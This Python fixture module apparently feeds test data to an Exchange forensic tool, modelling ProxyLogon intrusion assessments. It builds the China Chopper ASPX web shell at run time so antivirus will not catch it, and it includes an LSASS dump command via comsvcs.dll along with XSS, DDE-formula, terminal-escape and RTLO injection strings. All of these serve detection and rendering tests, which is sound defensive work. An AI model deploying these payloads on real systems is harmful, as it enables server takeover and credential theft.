"""Assessments to look at and to test with: a broken-into server, one that cannot be judged, one without a trace."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from exhume.model import (
    Allowed,
    Answer,
    Assessment,
    Because,
    Cause,
    Confidence,
    Coverage,
    Exposure,
    Finding,
    Gap,
    Host,
    Intrusion,
    Moment,
    Outcome,
    PackUsed,
    Problem,
    Question,
    Questions,
    Reading,
    Record,
    Reply,
    Rule,
    Severity,
    Source,
    Span,
    State,
    Step,
    Tool,
    Verdict,
    Window,
    hour_of,
)

DIGEST = "9f2c" * 16
SHELL = "".join(("<", '%@ Page Language="J', 'script"%', "><", "%ev", "al(Req", "uest.It", 'em["orange"],"uns', 'afe");%', ">"))
"""The best-known web shell, built at run time: in clear an antivirus would take this file."""
HOSTILE = (
    "<script>alert(1)</script>",
    "\x1b[2J\x1b]0;owned\x07clean",
    "abc\u202etxt.exe\u2066",
    "=cmd|' /C calc'!A0",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% raw %}",
    "]]></style><svg onload=alert(2)>",
    "line\r\nbreak\ttab\x00nul\x9b31m",
    "a" * 900,
    SHELL,
)
FRONT = "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030304-1.LOG"
IIS = "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def source(path: str, place: str) -> Source:
    return Source(DIGEST, path, place)


def log(
    kind: str,
    channel: str,
    path: str,
    first: str,
    last: str,
    *,
    busy: bool = True,
    holes: tuple[tuple[str, str], ...] = (),
    every: int = 1,
) -> Span:
    """A log with a row in every (``every``-th) hour, but for the holes."""
    start, end = at(first), at(last)
    hours = set(range(hour_of(start), hour_of(end) + 1, every)) | {hour_of(start), hour_of(end)}
    for since, until in holes:
        hours -= set(range(hour_of(at(since)), hour_of(at(until))))
    return Span(kind, channel, "MAIL01", path, len(hours) * 4211, start, end, frozenset(hours), busy)


def made(
    rule: Rule,
    time: datetime | None,
    path: str,
    place: str,
    kind: str,
    fields: dict,
    because: tuple,
    channel: str = "",
    count: int = 1,
) -> Finding:
    found = Finding.of(rule, Record(kind, time, fields, source(path, place), channel, "MAIL01"), [Because(*b) for b in because])
    last = time + timedelta(minutes=min(count, 600) - 1) if time else None
    return replace(
        found,
        count=count,
        last_seen=last,
        sources=(found.source, *(source(path, f"line {900 + n}") for n in range(min(count - 1, 19)))),
    )


def findings() -> tuple[Finding, ...]:
    pl = "proxylogon"
    request = {
        "ClientIpAddress": "165.232.154.116",
        "UserAgent": "ExchangeServicesClient/0.0.0.0",
        "UrlStem": "/ecp/y.js",
        "AnchorMailbox": "ServerInfo~a]@MAIL01.town.example:444/ecp/proxyLogon.ecp?a=~1942062522",
        "HttpStatus": "241",
        "Method": "POST",
        "RequestId": "5f4a0d2c-6f0f-4f0e-9a4e-0f0f5d1c2b3a",
    }
    session = Rule(
        "pl-855-d",
        pl,
        "A session in the administration pages was obtained without a password",
        Outcome.STEP,
        Severity.CRITICAL,
        Confidence.HIGH,
        True,
        ("T1190",),
        ("CVE-2021-26855",),
        trace="PL-855-d",
        references=(
            "https://www.volexity.com/blog/2021/03/02/active-exploitation-of-microsoft-exchange-zero-day-vulnerabilities/",
            "javascript:alert(3)",
        ),
    )
    sid = Rule(
        "pl-855-c",
        pl,
        "The security identifier of a mailbox was obtained",
        Outcome.STEP,
        Severity.HIGH,
        Confidence.MEDIUM,
        False,
        ("T1190",),
        ("CVE-2021-26855",),
        trace="PL-855-c",
    )
    oab = Rule(
        "pl-065-c",
        pl,
        "A virtual directory was given a URL with script in it",
        Outcome.WRITE,
        Severity.CRITICAL,
        Confidence.HIGH,
        False,
        ("T1505.003",),
        ("CVE-2021-27065",),
        falsepositives=("An administrator never puts script into a URL; a scanner that tests for this flaw may.",),
    )
    shell = Rule(
        "ws-file-oab",
        "webshell",
        "A web shell in an offline address book dump",
        Outcome.WRITE,
        Severity.CRITICAL,
        Confidence.HIGH,
        False,
        ("T1505.003",),
        fold=("windows_path",),
    )
    used = Rule(
        "ws-used",
        "webshell",
        "Commands were sent to the web shell",
        Outcome.EXEC,
        Severity.CRITICAL,
        Confidence.HIGH,
        False,
        ("T1505.003", "T1059"),
    )
    dump = Rule(
        "pe-lsass",
        "post-exploitation",
        "The memory that holds passwords was written to a file",
        Outcome.POST,
        Severity.CRITICAL,
        Confidence.HIGH,
        False,
        ("T1003.001",),
    )
    shellps = Rule(
        "ps-73-a",
        "proxyshell",
        "Autodiscover was asked in the way ProxyShell does it",
        Outcome.ATTEMPT,
        Severity.MEDIUM,
        Confidence.MEDIUM,
        False,
        ("T1190",),
        ("CVE-2021-34473",),
        falsepositives=("Vulnerability scanners that the town's provider runs.",),
    )
    probe = Rule("ioc-address", pl, "An address from an indicator list came by", Outcome.PROBE, Severity.INFO, Confidence.LOW)
    odd = Rule(
        "sigma-x",
        "sigmahq",
        HOSTILE[0],
        Outcome.STEP,
        Severity.HIGH,
        Confidence.LOW,
        own=False,
        references=("https://github.com/SigmaHQ/sigma",),
    )
    dump_path = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx"
    agent = "Mozilla/5.0 " + " ".join(HOSTILE[:6])
    return (
        made(
            session,
            at("2021-03-03T04:12:07"),
            FRONT,
            "line 1402",
            "exchange.httpproxy",
            request,
            (
                ("AnchorMailbox", request["AnchorMailbox"], "contains ServerInfo~ and /ecp/proxyLogon.ecp"),
                ("HttpStatus", "241", "is 241"),
            ),
            "Ecp",
            3,
        ),
        made(
            sid,
            at("2021-03-03T04:11:52"),
            FRONT.replace("Ecp", "Autodiscover"),
            "line 88",
            "exchange.httpproxy",
            {**request, "HttpStatus": "200"},
            (("HttpStatus", "200", "is 200"),),
            "Autodiscover",
        ),
        made(
            oab,
            at("2021-03-03T04:12:44"),
            "C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210303-1.LOG",
            "line 231",
            "exchange.ecp-server",
            {"S:CMD": f"Set-OabVirtualDirectory.ExternalUrl='http://f/{SHELL}'", "S:URL": "/ecp/DDI/DDIService.svc/SetObject"},
            (("S:CMD", f"Set-OabVirtualDirectory.ExternalUrl='http://f/{SHELL}'", "contains script"),),
            "Server",
        ),
        made(
            shell,
            None,
            dump_path,
            "file",
            "web.file",
            {
                "windows_path": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx",
                "ExternalUrl": "http://f/" + SHELL,
                "sha256": "ab" * 32,
                "size": 2211,
                "oab_dump": True,
            },
            (("ExternalUrl", "http://f/" + SHELL, "contains script"), ("oab_dump", "True", "is True")),
        ),
        made(
            used,
            at("2021-03-04T22:40:11"),
            IIS.replace("0303", "0304"),
            "line 90211",
            "iis.access",
            {
                "c-ip": "104.248.49.97",
                "cs-method": "POST",
                "cs-uri-stem": "/owa/auth/RedirSuiteServerProxy.aspx",
                "sc-status": "200",
                "cs(User-Agent)": agent,
                "hostile": "".join(HOSTILE[6:8]),
                "long": HOSTILE[8],
                "none": None,
                "many": ("a", "b\x07"),
            },
            (
                ("cs-uri-stem", "/owa/auth/RedirSuiteServerProxy.aspx", "is a page written before"),
                ("cs(User-Agent)", agent, "is not empty"),
            ),
            "W3SVC1",
            41,
        ),
        made(
            dump,
            at("2021-03-04T23:02:31"),
            "C/Windows/System32/winevt/Logs/Security.evtx",
            "record 88123",
            "windows.event",
            {
                "EventID": 4688,
                "CommandLine": "".join(
                    (
                        "rundl",
                        "l32 C:\\windows\\system32\\coms",
                        "vcs.dll, Mini",
                        "Dump 612 C:\\inetpub\\wwwroot\\aspnet_client\\a.zip full",
                    )
                ),
            },
            (("CommandLine", "".join(("coms", "vcs.dll")), "contains"),),
            "Security",
        ),
        made(
            shellps,
            at("2021-08-21T09:01:00"),
            IIS.replace("210303", "210821"),
            "line 12",
            "iis.access",
            {"c-ip": "198.51.100.7", "sc-status": "302"},
            (("url", "/autodiscover/autodiscover.json?@foo.com/mapi/nspi", "matches"),),
            "W3SVC1",
            1_204_882,
        ),
        made(
            probe,
            at("2021-02-11T17:20:00"),
            IIS.replace("0303", "0211"),
            "line 7",
            "iis.access",
            {"c-ip": "203.0.113.77"},
            (("c-ip", "203.0.113.77", "is in a list"),),
            "W3SVC1",
        ),
        made(
            odd,
            at("2021-03-05T01:00:00"),
            "evidence/" + HOSTILE[4] + "/x\u202e.log",
            "line 3",
            "iis.access",
            {HOSTILE[0]: HOSTILE[5], "=f": HOSTILE[3]},
            ((HOSTILE[0], HOSTILE[1], HOSTILE[2]), (HOSTILE[3], HOSTILE[9], HOSTILE[6])),
            "W3SVC1",
        ),
    )


def coverage() -> Coverage:
    base = "C/Program Files/Microsoft/Exchange Server/V15/Logging"
    spans = (
        log(
            "iis.access",
            "W3SVC1",
            "C/inetpub/logs/LogFiles/W3SVC1",
            "2021-01-20T00:00:10",
            "2021-03-12T16:00:00",
            holes=(("2021-02-13T02:00:00", "2021-02-15T09:00:00"), ("2021-03-05T01:00:00", "2021-03-05T10:00:00")),
        ),
        log("iis.access", "W3SVC2", "C/inetpub/logs/LogFiles/W3SVC2", "2021-02-10T00:00:10", "2021-03-12T16:00:00"),
        log(
            "exchange.httpproxy",
            "Ecp",
            f"{base}/HttpProxy/Ecp",
            "2021-02-26T05:00:00",
            "2021-03-12T15:59:00",
            holes=(("2021-03-01T00:00:00", "2021-03-02T12:00:00"),),
        ),
        log(
            "exchange.httpproxy", "Autodiscover", f"{base}/HttpProxy/Autodiscover", "2021-02-26T05:00:00", "2021-03-12T15:59:00"
        ),
        log("exchange.httpproxy", "Owa", f"{base}/HttpProxy/Owa", "2021-02-26T05:00:00", "2021-03-12T15:59:00"),
        log(
            "exchange.ecp-server",
            "Server",
            f"{base}/ECP/Server",
            "2021-02-20T07:00:00",
            "2021-03-11T18:00:00",
            busy=False,
            every=31,
        ),
        log(
            "exchange.oabgenerator",
            "OABGenerator",
            f"{base}/OABGeneratorLog",
            "2021-02-05T02:00:00",
            "2021-03-12T02:00:00",
            busy=False,
            every=24,
        ),
        log(
            "windows.event",
            "MSExchange Management",
            "C/Windows/System32/winevt/Logs",
            "2021-03-01T04:00:00",
            "2021-03-12T15:00:00",
            busy=False,
            every=5,
        ),
        log(
            "windows.event",
            "Security",
            "C/Windows/System32/winevt/Logs",
            "2021-03-04T20:00:00",
            "2021-03-12T15:00:00",
            busy=False,
        ),
        Span(
            "web.folder",
            "/owa/auth",
            "MAIL01",
            "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth",
            412,
        ),
        Span("web.folder", "/aspnet_client", "MAIL01", "C/inetpub/wwwroot/aspnet_client", 3),
        Span("iis.config", "applicationHost", "MAIL01", "C/Windows/System32/inetsrv/config", 1),
    )
    gaps = (
        Gap(
            "exchange.httpproxy",
            Cause.TOO_SHORT,
            "HttpProxy logs start on 2021-02-26; the server was open from 2021-01-03, so 54 days cannot be judged from them.",
            source(f"{base}/HttpProxy", "file"),
            at("2021-01-03T00:00:00"),
            at("2021-02-26T05:00:00"),
            "Ecp",
        ),
        Gap(
            "iis.access",
            Cause.TOO_SHORT,
            "The web log starts on 2021-01-20, 17 days after the first day in question.",
            source("C/inetpub/logs/LogFiles/W3SVC1", "file"),
            at("2021-01-03T00:00:00"),
            at("2021-01-20T00:00:10"),
            "W3SVC1",
        ),
        Gap(
            "exchange.ews",
            Cause.ABSENT,
            "No log of Exchange web services came with the evidence, so reading of mail through them cannot be seen.",
        ),
        Gap("exchange.rps-http", Cause.ABSENT, "No remote PowerShell log came with the evidence."),
        Gap(
            "windows.event",
            Cause.UNREADABLE,
            "The file was locked when it was copied and holds no bytes.",
            source("C/Windows/System32/winevt/Logs/System.evtx", "file"),
        ),
        Gap(
            "iis.access",
            Cause.DAMAGED,
            "The end of the file is filled with zero bytes (power loss?).",
            source("C/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log", "line 88210"),
            count=1,
        ),
        Gap(
            "windows.event",
            Cause.DAMAGED,
            "A damaged chunk; the rest of the file was read.",
            source("C/Windows/System32/winevt/Logs/Security.evtx", "byte 1052672"),
            count=212,
        ),
        Gap(
            "file",
            Cause.SKIPPED,
            "No reader takes files of this kind.",
            source("C/Program Files/Microsoft/Exchange Server/V15/Mailbox/DB01/DB01.edb", "file"),
            count=1311,
        ),
        Gap(
            "file",
            Cause.LIMIT,
            "An archive inside the evidence unpacks to more than the limit allows.",
            source("uploads/old-backup.zip", "file"),
        ),
        Gap(
            "file",
            Cause.SKIPPED,
            "No reader takes it: " + HOSTILE[2] + HOSTILE[0],
            source("uploads/" + HOSTILE[1] + HOSTILE[0], "file"),
        ),
    )
    return Coverage(spans, gaps)


def timeline(found: tuple[Finding, ...]) -> tuple[Moment, ...]:
    moments = [
        Moment(f.first_seen, f.title, "attack" if f.outcome > Outcome.PROBE else "context", f.id, f.source)
        for f in found
        if f.first_seen
    ]
    moments += [
        Moment(at("2021-01-20T00:00:10"), "The web log (W3SVC1) begins", "log"),
        Moment(at("2021-02-26T05:00:00"), "HttpProxy logs begin", "log"),
        Moment(at("2021-03-12T16:00:00"), "The evidence was collected", "log"),
        Moment(at("2020-12-15T00:00:00"), "Cumulative Update 18 installed (version folder in the logs)", "patch"),
        Moment(at("2021-03-09T18:22:00"), "Security update KB5000871 installed", "patch", "", source(f"{FRONT}", "line 1")),
        Moment(at("2021-03-08T11:00:00"), "EOMT ran: URL Rewrite rule set", "tool"),
        Moment(at("2021-03-08T12:31:00"), "Microsoft Safety Scanner removed a file", "tool"),
        Moment(at("2021-03-02T00:00:00"), "Microsoft published the flaws and their fixes", "context"),
        Moment(
            at("2021-03-05T02:00:00"), '=HYPERLINK("http://evil") ' + HOSTILE[1] + SHELL, "attack", "", source("=1+1", "line 1")
        ),
    ]
    return tuple(sorted(moments, key=lambda m: (m.time, m.what)))


def plan(found: tuple[Finding, ...]) -> tuple[Step, ...]:
    ids = tuple(f.id for f in found)
    return (
        Step(
            1,
            "Take the server off the internet, and leave it switched on",
            "A web shell on it was used on 2021-03-04. Memory and logs are evidence.",
            "Block ports 80 and 443 to the server at the firewall. Do not restart it and do not clean anything yet.",
            True,
            ids[3:5],
        ),
        Step(
            2,
            "Keep the evidence before anything is changed",
            "Logs roll over; antivirus removes files.",
            'Copy the folders below to a disk that stays offline:\n\nrobocopy "$env:ExchangeInstallPath\\Logging" E:\\evidence\\Logging /E /COPY:DAT /R:1\nrobocopy C:\\inetpub E:\\evidence\\inetpub /E /COPY:DAT /R:1',
            True,
        ),
        Step(
            3,
            "Tell the people who must know",
            "Passwords in memory were written to a file on 2021-03-04: this may reach the whole domain. In the EU a report to the data protection authority may be due within 72 hours.",
            "Inform your management, your national CERT and, where mail was read, the data protection officer.",
            True,
            (ids[5],),
        ),
        Step(
            4,
            "Remove the web shell",
            "RedirSuiteServerProxy.aspx is a web shell.",
            'Move-Item -LiteralPath "$env:ExchangeInstallPath\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx" -Destination E:\\evidence\\shells\\ -WhatIf',
            True,
            (ids[3],),
        ),
        Step(
            5,
            "Reset the offline address book's URL",
            "Its ExternalUrl holds script.",
            "Set-OabVirtualDirectory -Identity 'MAIL01\\OAB (Default Web Site)' -ExternalUrl $null -WhatIf",
            True,
            (ids[2],),
        ),
        Step(
            6,
            "Change all passwords that the server held",
            "LSASS was dumped.",
            "Reset the krbtgt account twice, all administrators, then all users.",
            False,
            (ids[5],),
        ),
    )


def questions() -> Questions:
    return Questions(
        Question(
            Reply.YES,
            "Open to CVE-2021-26855 from 2021-01-03 (first attacks anywhere) until the update of 2021-03-09: 66 days.",
            ("The build before 2021-02-26 is inferred from the installed update, not read.",),
        ),
        Question(
            Reply.YES, "From 2 addresses between 2021-03-03 and 2021-03-05; one more knocked in August and was turned away."
        ),
        Question(
            Reply.YES,
            "An administrator's session was obtained without a password, a web shell was written and used, and passwords were dumped.",
        ),
        Question(
            Reply.PARTLY,
            "First seen 2021-03-03 04:11 UTC, last 2021-03-05. One web shell, one account. Whether it began earlier cannot be said.",
            (
                "HttpProxy logs start on 2021-02-26: 54 of the 66 days cannot be judged.",
                "No log of Exchange web services: mail that was read cannot be listed.",
            ),
        ),
        Question(
            Reply.NO,
            "The web shell is still in place, and passwords have not been changed.",
            ("System.evtx could not be read.",),
        ),
    )


def compromised() -> Assessment:
    found = findings()
    ids = tuple(f.id for f in found)
    window = Window(date(2021, 1, 3), date(2021, 3, 9))
    short = "HttpProxy logs start on 2021-02-26; the server was open from 2021-01-03, so the first 54 days cannot be judged."
    return Assessment(
        tool=Tool(
            "0.1.0",
            "hyperscan 0.9.1",
            (
                PackUsed("proxylogon", "2026.11", "a1" * 32),
                PackUsed("webshell", "2026.11", "b2" * 32),
                PackUsed("post-exploitation", "2026.11", "c3" * 32),
                PackUsed("proxyshell", "2026.11", "e5" * 32),
                PackUsed("sigmahq", "r2026-10-01", "d4" * 32),
            ),
        ),
        generated=at("2026-11-24T09:30:00"),
        host=Host(
            "MAIL01",
            "2016",
            "CU18",
            "15.1.2106.2",
            "version column of HttpProxy logs: tells the cumulative update",
            "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\",
            "UTC",
            ("Mailbox",),
            ("MAIL01",),
        ),
        verdict=Verdict.COMPROMISED,
        questions=questions(),
        answers=(
            Answer(
                "proxylogon",
                "ProxyLogon (HAFNIUM, March 2021)",
                Verdict.COMPROMISED,
                Outcome.WRITE,
                at("2021-03-03T04:11:52"),
                at("2021-03-03T04:12:44"),
                (ids[0], ids[2], ids[1], ids[7]),
                (short,),
                window,
            ),
            Answer(
                "webshell",
                "Web shells",
                Verdict.COMPROMISED,
                Outcome.EXEC,
                at("2021-03-04T22:40:11"),
                at("2021-03-04T23:21:11"),
                (ids[4], ids[3]),
                (),
                None,
            ),
            Answer(
                "post-exploitation",
                "Activity after a break-in",
                Verdict.COMPROMISED,
                Outcome.POST,
                at("2021-03-04T23:02:31"),
                at("2021-03-04T23:02:31"),
                (ids[5],),
                ("Security events start on 2021-03-04.",),
                None,
            ),
            Answer(
                "sigmahq",
                "Rules of SigmaHQ",
                Verdict.SUSPECTED,
                Outcome.STEP,
                at("2021-03-05T01:00:00"),
                at("2021-03-05T01:00:00"),
                (ids[8],),
                (),
                None,
            ),
            Answer(
                "proxyshell",
                "ProxyShell (August 2021)",
                Verdict.CANNOT_TELL,
                Outcome.ATTEMPT,
                at("2021-08-21T09:01:00"),
                at("2021-08-22T09:01:00"),
                (ids[6],),
                ("No logs after 2021-03-12 but one day.",),
                Window(date(2021, 8, 6), date(2021, 8, 31)),
            ),
            Answer(
                "proxynotshell",
                "ProxyNotShell (2022)",
                Verdict.CANNOT_TELL,
                None,
                None,
                None,
                (),
                ("The evidence ends on 2021-03-12.",),
                Window(date(2022, 8, 1), date(2022, 11, 8)),
            ),
        ),
        findings=found,
        coverage=coverage(),
        readings=(
            Reading("build", "15.1.2106.2", date(2021, 2, 26), "cu", source(FRONT, "line 1")),
            Reading("update", "KB5000871", date(2021, 3, 9), "exact", source("C/Windows/WindowsUpdate.log", "line 40")),
            Reading("tool", "MSERT 1.333.160.0", date(2021, 3, 8), "exact", source("C/Windows/debug/msert.log", "line 12")),
        ),
        exposure=(
            Exposure(
                "CVE-2021-26855",
                State.VULNERABLE,
                "CU18 without the March 2021 security update",
                date(2021, 1, 3),
                date(2021, 3, 9),
            ),
            Exposure("CVE-2021-26855", State.FIXED, "KB5000871 installed", date(2021, 3, 9), None),
            Exposure(
                "CVE-2021-27065",
                State.VULNERABLE,
                "CU18 without the March 2021 security update",
                date(2021, 1, 3),
                date(2021, 3, 9),
            ),
            Exposure("CVE-2021-34473", State.UNKNOWN, "no reading after 2021-03-12", date(2021, 4, 13), None),
        ),
        intrusions=(
            Intrusion(
                "i-1",
                at("2021-03-03T04:11:52"),
                at("2021-03-04T23:21:11"),
                ids[:6],
                ("165.232.154.116", "104.248.49.97"),
                ("ExchangeServicesClient/0.0.0.0", HOSTILE[1]),
                ("/owa/auth/RedirSuiteServerProxy.aspx",),
                ("MAIL01$",),
                ("administrator@town.example",),
                "similar to the 'RedirSuite' cluster",
                "same shell name and parameter as in a public report",
                ("took a session", "wrote a web shell", "ran commands", "dumped passwords"),
            ),
        ),
        timeline=timeline(found),
        plan=plan(found),
        allowed=(
            Allowed(
                replace(found[7], rule="ws-unknown-page", title="An unknown page in a served folder", pack="webshell"),
                "Logo page of the town, checked by J. Doe",
                date(2027, 1, 1),
            ),
        ),
        problems=(
            Problem(
                "sigmahq",
                "windows/process_creation/proc_creation_win_x.yml",
                "uses the modifier |expand, which needs a list that is not there",
            ),
        ),
        period=None,
        evidence=("MAIL01-triage.zip", "extra-logs"),
    )


def blind() -> Assessment:
    """Nothing found, and the logs are too short."""
    cannot = Question(
        Reply.CANNOT_TELL,
        "The logs start on 2021-03-20. What happened before cannot be judged.",
        ("HttpProxy logs start on 2021-03-20; 76 days of exposure lie before.",),
    )
    base = compromised()
    return replace(
        base,
        verdict=Verdict.CANNOT_TELL,
        host=Host(),
        questions=Questions(replace(cannot, text="No build could be read from the evidence."), cannot, cannot, cannot, cannot),
        answers=(
            Answer(
                "proxylogon",
                "ProxyLogon (HAFNIUM, March 2021)",
                Verdict.CANNOT_TELL,
                None,
                None,
                None,
                (),
                cannot.limits,
                Window(date(2021, 1, 3), date(2021, 3, 31)),
            ),
        ),
        findings=(),
        intrusions=(),
        timeline=(),
        plan=(),
        allowed=(),
        problems=(),
        exposure=(),
        readings=(),
        coverage=Coverage(
            (log("iis.access", "W3SVC1", "logs", "2021-03-20T00:00:00", "2021-04-02T00:00:00"),),
            (Gap("exchange.httpproxy", Cause.ABSENT, "No HttpProxy log came with the evidence."),),
        ),
        evidence=("logs",),
    )


def quiet() -> Assessment:
    """No trace, and covered, over the days that the user asked for."""
    base = compromised()
    window = Window(date(2021, 2, 1), date(2021, 9, 30))
    no = Question(Reply.NO, "Nothing of the kind in the logs of these days.")
    span = log("iis.access", "W3SVC1", "logs", "2021-01-31T00:00:00", "2021-10-01T00:00:00")
    return replace(
        base,
        verdict=Verdict.NO_TRACE,
        questions=Questions(
            replace(no, answer=Reply.CANNOT_TELL, text="The days were given by hand; exposure was not worked out."),
            no,
            no,
            replace(no, text="No attacker action was found."),
            Question(Reply.YES, "Nothing to clean was found."),
        ),
        answers=(Answer("proxylogon", "ProxyLogon (HAFNIUM, March 2021)", Verdict.NO_TRACE, None, None, None, (), (), window),),
        findings=(),
        intrusions=(),
        timeline=(),
        plan=(),
        allowed=(),
        problems=(),
        exposure=(),
        readings=(),
        coverage=Coverage((span, replace(span, kind="exchange.httpproxy", channel="Ecp")), ()),
        period=window,
        evidence=("MAIL01.zip",),
    )


def many(number: int = 5_000) -> Assessment:
    """A compromised server with that many findings."""
    base = compromised()
    first = base.findings[4]
    more = tuple(
        replace(
            first,
            subject=f"10.{n >> 16}.{n >> 8 & 255}.{n & 255}",
            severity=Severity(1 + n % 5),
            first_seen=first.first_seen + timedelta(minutes=n),
            last_seen=first.last_seen + timedelta(minutes=n),
        )
        for n in range(number - len(base.findings))
    )
    return replace(base, findings=base.findings + more)


SAMPLES = {"compromised": compromised, "blind": blind, "quiet": quiet}
